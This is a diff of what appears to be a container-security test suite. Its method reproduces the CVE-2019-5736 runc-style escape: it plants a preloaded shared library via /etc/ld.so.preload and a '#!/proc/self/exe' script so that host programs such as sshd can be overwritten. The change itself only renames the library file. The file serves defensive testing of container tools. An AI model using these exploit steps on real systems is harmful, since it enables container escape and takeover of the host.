@@ -33,14 +33,14 @@ class Joining(Attack):
     def attack_11_overwriting_the_program(self):
         """A script whose interpreter is /proc/self/exe makes the program of the host run inside (CVE-2019-5736), where it
         loads C's library: the file is held open, and written to when nobody runs it any more."""
-        compile_once('tests/attacks/preload.c', '/tmp/preload.so', '-shared', '-fPIC')
+        compile_once('tests/attacks/hold.c', '/tmp/hold.so', '-shared', '-fPIC')
         programs = ['/usr/bin/nsinit', '/usr/sbin/nsinitd', '/usr/bin/nsinit-shell', '/usr/sbin/sshd', Naive.program]
 
         def strike(tool):
             root = self.root(tool)
             host.add_programs(root, [tool.program])
-            shutil.copy('/tmp/preload.so', f'{root}/preload.so')
-            write(f'{root}/etc/ld.so.preload', '/preload.so\n')
+            shutil.copy('/tmp/hold.so', f'{root}/hold.so')
+            write(f'{root}/etc/ld.so.preload', '/hold.so\n')
             write(f'{root}/bin/evil', '#!/proc/self/exe\n', 0o755)
             for program in programs:
                 shutil.copy(program, f'/tmp/{os.path.basename(program)}.saved')
